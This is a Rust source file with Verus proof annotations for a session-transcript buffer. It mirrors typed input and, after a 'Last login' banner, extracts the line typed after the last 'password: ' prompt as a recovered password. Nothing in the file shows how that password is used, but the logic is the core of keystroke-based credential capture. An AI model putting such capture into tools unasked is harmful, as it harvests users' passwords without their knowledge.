//! The transcript buffer and the session-end password recovery.
//!
//! The transcript is a bounded, append-only capture of the session's recent
//! traffic: the output reader appends what the child printed, the input
//! writer mirrors what was typed. At session end it is scanned once: if it
//! holds a login-success banner, the line after the last password prompt,
//! trimmed, is the recovered password.

use vstd::prelude::*;

use crate::scan::{
    contains_seq, contains_subseq, find_byte_from, first_newline_at, is_last_match,
    is_match_at, rfind_subseq, trim_range, trim_spec,
};

verus! {

/// Transcript capacity while the password flow is active: output chunks stop
/// being recorded once this much is held.
pub const OUTPUT_TRANSCRIPT_CAP: usize = 1024;

/// Transcript capacity for mirrored input, which is lower-volume and is what
/// the final extraction reads.
pub const INPUT_TRANSCRIPT_CAP: usize = 4096;

/// The marker that the session-end scan searches backwards for: the bytes of
/// a password prompt line, `"password: "`.
pub open spec fn extract_marker() -> Seq<u8> {
    seq![112u8, 97u8, 115u8, 115u8, 119u8, 111u8, 114u8, 100u8, 58u8, 32u8]
}

/// The bytes of the login-success banner, `"Last login"`.
pub open spec fn banner_marker() -> Seq<u8> {
    seq![76u8, 97u8, 115u8, 116u8, 32u8, 108u8, 111u8, 103u8, 105u8, 110u8]
}

/// The extraction marker as a byte vector.
pub fn extract_marker_bytes() -> (r: Vec<u8>)
    ensures
        r@ == extract_marker(),
{
    let r: Vec<u8> = vec![112u8, 97, 115, 115, 119, 111, 114, 100, 58, 32];
    proof {
        assert(r@ =~= extract_marker());
    }
    r
}

/// The login-success banner as a byte vector.
pub fn banner_marker_bytes() -> (r: Vec<u8>)
    ensures
        r@ == banner_marker(),
{
    let r: Vec<u8> = vec![76u8, 97, 115, 116, 32, 108, 111, 103, 105, 110];
    proof {
        assert(r@ =~= banner_marker());
    }
    r
}

/// What a capped append leaves in the transcript: below the cap the chunk
/// is appended whole; at or above it nothing more is recorded.
pub open spec fn capped_append(t: Seq<u8>, d: Seq<u8>, cap: int) -> Seq<u8> {
    if t.len() < cap {
        t + d
    } else {
        t
    }
}

/// The last password prompt of `t` stands at `i`, and `e` is the first line
/// break after the text that follows it.
pub open spec fn captured_at(t: Seq<u8>, i: int, e: int) -> bool {
    is_last_match(t, extract_marker(), i) && first_newline_at(
        t,
        i + extract_marker().len() as int,
        e,
    )
}

/// A bounded, append-only capture of recent session traffic, as the bytes of
/// the lossily decoded text.
pub struct Transcript {
    data: Vec<u8>,
}

impl View for Transcript {
    type V = Seq<u8>;

    closed spec fn view(&self) -> Seq<u8> {
        self.data@
    }
}

impl Transcript {
    /// Creates an empty transcript.
    pub fn new() -> (t: Transcript)
        ensures
            t@ == Seq::<u8>::empty(),
    {
        Transcript { data: Vec::new() }
    }

    /// The recorded bytes.
    pub fn contents(&self) -> (r: &Vec<u8>)
        ensures
            r@ == self@,
    {
        &self.data
    }

    /// Appends `chunk` if the transcript is still below `cap`; once the cap
    /// has been reached nothing more is recorded (older content is never
    /// evicted).
    pub fn append_capped(&mut self, chunk: &Vec<u8>, cap: usize)
        ensures
            final(self)@ == capped_append(old(self)@, chunk@, cap as int),
    {
        if self.data.len() < cap {
            self.data.extend_from_slice(chunk.as_slice());
        }
    }

    /// Recovers the password typed during the session, if the transcript
    /// shows a successful login.
    ///
    /// The result is pinned down case by case:
    /// - without the login-success banner nothing is recovered, even if a
    ///   password prompt is present;
    /// - with the banner present, the line that follows the last password
    ///   prompt, up to the next line break and trimmed of surrounding
    ///   whitespace, is the recovered password;
    /// - a prompt with no line break after it recovers nothing.
    pub fn extract_password(&self) -> (r: Option<Vec<u8>>)
        ensures
            !contains_seq(self@, banner_marker()) ==> r is None,
            !contains_seq(self@, extract_marker()) ==> r is None,
            r is Some ==> contains_seq(self@, banner_marker()),
            forall|i: int, e: int|
                (contains_seq(self@, banner_marker()) && #[trigger] captured_at(self@, i, e))
                    ==> (r is Some && r->0@ == trim_spec(
                    self@.subrange(i + extract_marker().len() as int, e),
                )),
            forall|i: int|
                (#[trigger] is_last_match(self@, extract_marker(), i) && (forall|j: int|
                    i + extract_marker().len() <= j < self@.len() ==> #[trigger] self@[j] != 10u8))
                    ==> r is None,
    {
        let banner = banner_marker_bytes();
        if !contains_subseq(&self.data, &banner) {
            return None;
        }
        let marker = extract_marker_bytes();
        let found = rfind_subseq(&self.data, &marker);
        match found {
            None => None,
            Some(at) => {
                let total = self.data.len();
                proof {
                    assert(at + marker@.len() <= total);
                }
                let start = at + marker.len();
                let nl = find_byte_from(&self.data, start, 10u8);
                match nl {
                    None => {
                        proof {
                            lemma_last_match_unique(self@, extract_marker(), at as int);
                        }
                        None
                    },
                    Some(e) => {
                        let line = trim_range(&self.data, start, e);
                        proof {
                            lemma_last_match_unique(self@, extract_marker(), at as int);
                            assert(forall|ee: int|
                                first_newline_at(self@, start as int, ee) ==> ee == e) by {
                                assert(forall|ee: int|
                                    first_newline_at(self@, start as int, ee) && ee < e
                                        ==> self@[ee] != 10u8);
                                assert(forall|ee: int|
                                    first_newline_at(self@, start as int, ee) && ee > e
                                        ==> self@[e as int] != 10u8);
                            }
                        }
                        Some(line)
                    },
                }
            },
        }
    }
}

/// The last occurrence of a needle is unique.
proof fn lemma_last_match_unique(h: Seq<u8>, n: Seq<u8>, i: int)
    requires
        is_last_match(h, n, i),
    ensures
        forall|j: int| is_last_match(h, n, j) ==> j == i,
{
    assert forall|j: int| is_last_match(h, n, j) implies j == i by {
        if j < i {
            assert(!is_match_at(h, n, i));
        } else if j > i {
            assert(!is_match_at(h, n, j));
        }
    }
}

} // verus!
